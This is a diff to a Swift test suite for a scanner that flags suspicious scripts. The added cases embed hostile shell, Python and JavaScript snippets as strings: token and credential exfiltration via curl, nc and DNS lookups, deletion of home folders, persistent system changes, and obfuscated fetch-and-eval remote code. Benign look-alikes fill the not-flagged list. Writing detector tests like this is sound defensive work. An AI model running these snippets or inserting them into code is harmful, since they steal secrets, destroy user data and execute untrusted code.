@@ -108,6 +108,41 @@ private func rules(_ path: String, _ text: String) throws -> Set<String> {
             "python3 - <<'E'\nimport os\nprint(requests.post(U, data=open(os.path.expanduser('~/.ssh/id_rsa')).read()))\nE",
             "suspicious-exfiltration"
         ),
+        ("a.sh", "t=$(gh auth token 2>/tmp/e)\ncurl -d \"$t\" $U", "suspicious-exfiltration"),
+        (
+            "a.sh", "{ cat ~/.aws/credentials; } 2>&1 2>/dev/null | nc $H 70",
+            "suspicious-exfiltration"
+        ),
+        ("a.sh", "drill \"$(echo $NPM_TOKEN | xxd -p).a.acme.io\"", "suspicious-exfiltration"),
+        (
+            "a.py",
+            "import os, socket\nsocket.gethostbyname(os.environ['OPENAI_API_KEY'] + '.a.io')",
+            "suspicious-exfiltration"
+        ),
+        (
+            "a.py",
+            "import platform\nC = {'Linux': ['xsel', '-o'], 'Darwin': ['pbpaste']}[platform.system()]\nrequests.post(U, data=subprocess.run(C, capture_output=True).stdout)",
+            "suspicious-exfiltration"
+        ),
+        ("a.py", "for x in ['~', '/tmp/a']:\n    shutil.rmtree(x)", "suspicious-deletion"),
+        (
+            "a.py",
+            "def f():\n    h = os.path.expanduser('~')\n    for n in ('Documents', 'Music'):\n        shutil.rmtree(h + '/' + n)",
+            "suspicious-deletion"
+        ),
+        ("a.sh", "git config --system core.hooksPath /opt/h", "suspicious-system-change"),
+        ("a.sh", "systemctl enable --user a.timer", "suspicious-system-change"),
+        ("a.py", "s = socket.socket()\nexec(s.makefile('r').read())", "suspicious-remote-code"),
+        (
+            "a.js",
+            "const k = ['https', 'get', 'data'];\nrequire(k[0])[k[0x1]](u, r => { r['on'](k[2], d => eval('' + d)) });",
+            "suspicious-remote-code"
+        ),
+        (
+            "a.js",
+            "require('https').get(u, r => r['on']('data', d => (function(){})['constructor']('' + d)()));",
+            "suspicious-remote-code"
+        ),
     ])
     func `that does harm by way of its names is asked about`(
         _ path: String, _ text: String, _ rule: String
@@ -124,6 +159,14 @@ private func rules(_ path: String, _ text: String) throws -> Set<String> {
         ("a.py", "if os.environ.get('CI') == 'true':\n    requests.post(U, json={'ci': True})"),
         ("a.ts", "class A {\n  constructor(url: string) { this.data = atob(url); }\n}"),
         ("a.sh", "tar xzf a.tgz\nrm -rf \"$HOME/.cache/acme\""),
+        (
+            "a.sh",
+            "t=$(gh auth token 2>/dev/null)\ncurl -H \"Authorization: $t\" https://api.github.com"
+        ),
+        ("a.sh", "git config --get core.hooksPath\ngit config core.hooksPath .githooks"),
+        ("a.sh", "for n in build dist; do rm -rf \"$PWD/$n\"; done\ndig +short a.acme.io"),
+        ("a.py", "for n in ('build', 'dist'):\n    shutil.rmtree(os.path.join(ROOT, n))"),
+        ("a.js", "const t = ['get', 'text'];\nconst r = await api[t[0]](u);\nshow(r[t[1]]);"),
     ])
     func `that only mentions it, or does something else, is not`(
         _ path: String, _ text: String
